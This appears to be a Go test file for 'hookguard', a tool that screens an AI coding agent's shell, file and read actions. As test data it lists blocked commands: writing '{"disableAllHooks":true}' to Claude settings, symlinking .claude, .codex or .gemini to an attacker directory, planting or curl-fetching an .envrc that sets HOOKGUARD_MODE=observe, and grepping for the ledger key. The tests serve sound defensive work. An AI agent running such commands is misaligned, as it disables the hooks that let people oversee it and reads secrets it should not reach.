		{dots, `echo '{"disableAllHooks":true}' > claude/settings.json`},
		{dots, "cp x claude/settings.json"},
		{dots, "printf '{}' | tee claude/settings.json"},
		{linked, "echo '{}' > conf/claude.json"},
		{bare, "ln -s $EVIL .claude"},
		{bare, "ln -sfn $EVIL .gemini"},
		{bare, "ln -s $EVIL/settings.json .claude/settings.json"},
		{bare, "mkdir .codex && ln -s $EVIL/hooks.json .codex/hooks.json"},
		{w.root, "ln -s $EVIL ~/.gemini"},
	} {
		if v := sh(c.root, c.cmd); v.Decision != hookguard.Block || v.Rule != "harness-settings" || v.Guard != Name {
			t.Errorf("%s in %s: got %v %s/%s (%s), want self/harness-settings", c.cmd, filepath.Base(c.root), v.Decision, v.Guard, v.Rule, v.Reason)
		}
	}
	ev := w.event(hookguard.PreFiles)
	ev.Files = []hookguard.FileChange{{Path: filepath.Join(dots, "claude", "settings.json"), Op: hookguard.OpWrite, Text: "{}"}}
	if v := judge(dots, ev); v.Rule != "harness-settings" {
		t.Errorf("the Write tool on the linked settings: %+v", v)
	}
	// Once a project's .claude is a link, what it points at is the settings too.
	must(os.Symlink(evil, filepath.Join(bare, ".claude")))
	if v := sh(bare, "echo '{}' > $EVIL/settings.local.json"); v.Rule != "harness-settings" {
		t.Errorf("a write where .claude points: %+v", v)
	}
	// What stays allowed: reading them, a file beside them, a link elsewhere, and a plain
	// write of the settings as spelled (boundary's rule).
	for _, c := range []struct{ root, cmd string }{
		{dots, "cat claude/settings.json"},
		{dots, "echo x > claude/notes.md"},
		{linked, "echo '{}' > conf/other.json"},
		{bare, "echo x > $EVIL/other.json"},
		{bare, "ln -s $EVIL docs"},
		{linked, "echo '{}' > .claude/settings.json"},
	} {
		if v := sh(c.root, c.cmd); v.Decision != hookguard.Allow {
			t.Errorf("%s in %s: got %v %s (%s), want allow", c.cmd, filepath.Base(c.root), v.Decision, v.Rule, v.Reason)
		}
	}
}

// An .envrc is judged by what the line writes there, or by where its text comes from; never
// by the file on disk, which is the old one.
func TestEnvrcSources(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.root, "template.envrc"), []byte("use nix\n"), 0o644)
	write(t, filepath.Join(w.root, "bad.envrc"), []byte("export HOOKGUARD_MODE=observe\n"), 0o644)
	write(t, filepath.Join(w.base, "evil.env"), []byte("export XDG_STATE_HOME=/tmp/x\n"), 0o644)
	cases := []struct {
		cmd   string
		block bool
	}{
		{"cp $BASE/evil.env .envrc", true},
		{"cp -f $BASE/evil.env ./.envrc", true},
		{"mv bad.envrc .envrc", true},
		{"cp bad.envrc .envrc", true},
		{"ln -s $BASE/evil.env .envrc", true},
		{"ln $BASE/evil.env .envrc", true},
		{"install -m 644 $BASE/evil.env .envrc", true},
		{"dd if=$BASE/evil.env of=.envrc", true},
		{"rsync $BASE/evil.env .envrc", true},
		{"cat $BASE/evil.env > .envrc", true},
		{"cat < $BASE/evil.env > .envrc", true},
		{"curl -fsSL https://example.com/envrc -o .envrc", true},
		{"curl -fsSL https://example.com/envrc | tee .envrc", true},
		{"echo 'export HOOKGUARD_X=1' > a && cp a .envrc", true},
		{"echo 'export XDG_CONFIG_HOME=/tmp' > .envrc", true},
		{"cp template.envrc .envrc", false},
		{"cat template.envrc > .envrc", false},
		{"echo 'use nix' > a && cp a .envrc", false},
		{"echo 'use flake' > .envrc", false},
		{"echo 'dotenv' >> .envrc", false},
		{"echo 'use nix' | tee .envrc", false},
		{"touch .envrc", false},
	}
	run := func(stage string) {
		for _, c := range cases {
			v := w.shell(t, c.cmd)
			if c.block && (v.Rule != "envrc" || !v.NoCode) || !c.block && v.Decision != hookguard.Allow {
				t.Errorf("%s: %q: got %v %s (%s), want block %v", stage, c.cmd, v.Decision, v.Rule, v.Reason, c.block)
			}
		}
	}
	run("without an .envrc")
	// An .envrc on disk is the old text, not what a copy lands.
	write(t, filepath.Join(w.root, ".envrc"), []byte("use nix\n"), 0o644)
	run("with a harmless .envrc")
}

// A search of any directory above the key reads it: Grep of ~/.local/state or ~/.local as
// much as of the state directory itself.
func TestKeyAncestorReads(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.home, ".local", "share", "x.txt"), []byte("x"), 0o644)
	for _, c := range []struct {
		tool  string
		reads []string
		block bool
	}{
		{"Grep", []string{filepath.Join(w.home, ".local/state")}, true},
		{"Grep", []string{filepath.Join(w.home, ".local")}, true},
		{"Grep", []string{"~/.local"}, true},
		{"Grep", []string{w.home}, true},
		{"Glob", []string{filepath.Join(w.home, ".local"), filepath.Join(w.home, ".local", "**/*")}, true},
		{"grep_search", []string{filepath.Join(w.home, ".local/state")}, true},
		{"read_many_files", []string{filepath.Join(w.home, ".local")}, true},
		{"Grep", []string{filepath.Join(w.home, ".local/share")}, false},
		{"Grep", []string{w.root}, false},
		{"list_directory", []string{w.home}, false},
		{"Read", []string{filepath.Join(w.home, ".local/share/x.txt")}, false},
	} {
		ev := w.event(hookguard.PreRead)
		ev.Tool, ev.Reads = c.tool, c.reads
		v, err := (&Guard{}).Check(context.Background(), ev)
		if err != nil {
			t.Fatal(err)
		}
		if c.block && (v.Rule != "ledger-key" || !v.NoCode) || !c.block && v.Decision != hookguard.Allow {
			t.Errorf("%s %v: got %v %s (%s), want block %v", c.tool, c.reads, v.Decision, v.Rule, v.Reason, c.block)
		}
	}
}

// TestMovedHomes: where a variable moves a harness's home, its user settings there are its
// settings (CODEX_HOME, CLAUDE_CONFIG_DIR by directory; GEMINI_CLI_HOME by home).
func TestMovedHomes(t *testing.T) {
	w := newWorld(t)
	for env, file := range map[string]string{
		"CODEX_HOME=/srv/ch":        "/srv/ch/hooks.json",
		"CLAUDE_CONFIG_DIR=/srv/cc": "/srv/cc/settings.json",
		"GEMINI_CLI_HOME=/srv/gh":   "/srv/gh/.gemini/settings.json",
	} {
		k, v, _ := strings.Cut(env, "=")
		w.env[k] = v
		if got := w.shell(t, "echo '{}' > "+file); got.Decision != hookguard.Block || got.Rule != "harness-settings" {
			t.Errorf("%s: writing %s: %+v, want a harness-settings block", env, file, got)
		}
		delete(w.env, k)
	}
}

// paths.GlobLiterals, the shortcut before a glob of the key's path, never turns a match away: checked
// against paths.Glob on globs that hold the key's components and globs that do not.
func TestLiteralsInBeforeGlob(t *testing.T) {
	names := []string{"/h/.local/state/hookguard/ledger.key", "/h/.local/state/hookguard/.ledger.key.tmp", "/s/hookguard/ledger.key"}
	pats := []string{"/h/.local/state/hookguard/*", "/h/.local/state/*/ledger.k??", "/h/**/ledger.key", "/h/.local/state/hookguard/ledger.ke[xy]",
		"/p/dist/app-*", "/h/.local/*/hookguard/*.key", "/s/*/ledger.key", "/h/.local/state/hook*/.ledger.key.*", `/h/.local/state/hookguard/ledger\.key`, "/**"}
	for _, n := range names {
		for _, p := range pats {
			if paths.Glob(p, n) && !paths.GlobLiterals(p, n) {
				t.Errorf("GlobLiterals(%q, %q) turns away a match", p, n)
			}
		}
	}
	if paths.GlobLiterals("/p/dist/app-*", names[0]) {
		t.Error("a glob naming dist/ was not told from the key's path")
	}
}

// A command read from exactly what an earlier one was is judged as that one was, but not
// once the line has made something into hookguard: the same `/tmp/q/tool install` is any
// program before the copy and hookguard after it.
func TestTwinsAfterAnAlias(t *testing.T) {
	w := newWorld(t)
	// The twins' table is direct-mapped: the copy, whose words hold the world's random
	// directory, lands in the first command's slot one time in 32 and evicts it. A spelling
	// of the copy that does not is chosen, so that the shortcut is always what is tested.
	line := ""
	for _, cp := range []string{"cp", "cp --", "cp -f", "cp -p", "command cp", "builtin command cp"} {
		line = "/tmp/q/tool install; " + cp + " $BIN /tmp/q/tool; /tmp/q/tool install"
		ev := w.event(hookguard.PreShell)
		ev.Command = w.expand(line)
		sc := shell.Of(ev)
		if len(sc.Commands) == 3 && sc.Commands[2].Twin() == sc.Commands[0] {
			break
		}
		line = ""
	}
	if line == "" {
		t.Fatal("the third command is no twin of the first in any spelling: the test does not test the shortcut")
	}
	if v := w.shell(t, line); v.Rule != "hookguard-cli" {
		t.Errorf("a copy of hookguard run after the copy, as a twin of a command before it: %+v", v)
	}
	if v := w.shell(t, "/tmp/q/tool install; echo; /tmp/q/tool install"); v.Decision != hookguard.Allow {
		t.Errorf("a twin of a command that passed: %+v", v)
	}
}

// ownGlob reads each place a component at a time and compares a component without wildcards
// by equality: it must answer as matching the split components with filepath.Match does.
func TestOwnGlobAsMatch(t *testing.T) {
	w := newWorld(t)
	s := newScope(w.event(hookguard.PreShell), osGetenv)
	s.build()
	slow := func(pattern string, above bool) (hit, bool) {
		pat := strings.Split(strings.TrimPrefix(filepath.Clean(pattern), "/"), "/")
		for _, pl := range s.places {
			parts := strings.Split(strings.TrimPrefix(pl.path, "/"), "/")
			n := min(len(pat), len(parts))
			ok := true
			for i := range n {
				if strings.HasPrefix(parts[i], ".") && !strings.HasPrefix(pat[i], ".") {
					ok = false
					break
				}
				if m, err := filepath.Match(pat[i], parts[i]); err != nil || !m {
					ok = false
					break
				}
			}
			if !ok {
				continue
			}
			switch {
			case len(pat) == len(parts), len(pat) > len(parts) && pl.tree:
				return hit{place: pl}, true
			case len(pat) < len(parts) && above:
				return hit{place: pl, above: true}, true
			}
		}
		return hit{}, false
	}
	var pats []string
	for _, p := range []string{w.root, w.home, w.base, "/"} {
		for _, g := range []string{"*", ".*", "*/*", ".hookguard/*", ".hookguard/runners/*/*", ".claude/settings.*", ".c*/*", "?claude/*",
			".config/hook*", ".config/hookguard/*", ".config/*/binary", ".local/state/*", ".local/state/[h]ookguard/*", "dist/app-*",
			".claude/projects/*/*.jsonl", "[", `.hookguard\/*`, "*/.hookguard/*", "proj/.hookguard", "proj/*/runners/claude/*.sh", "x/*"} {
			pats = append(pats, filepath.Join(p, g))
		}
	}
	found := 0
	for _, p := range pats {
		for _, above := range []bool{false, true} {
			gh, gok := s.ownGlob(p, above)
			wh, wok := slow(p, above)
			if gok != wok || gh != wh {
				t.Errorf("ownGlob(%q, %v) = %+v %v, matching each component gives %+v %v", p, above, gh, gok, wh, wok)
			}
			if wok {
				found++
			}
		}
	}
	if found < 20 {
		t.Errorf("only %d of the patterns name a place: the test no longer exercises the matches", found)
	}
}
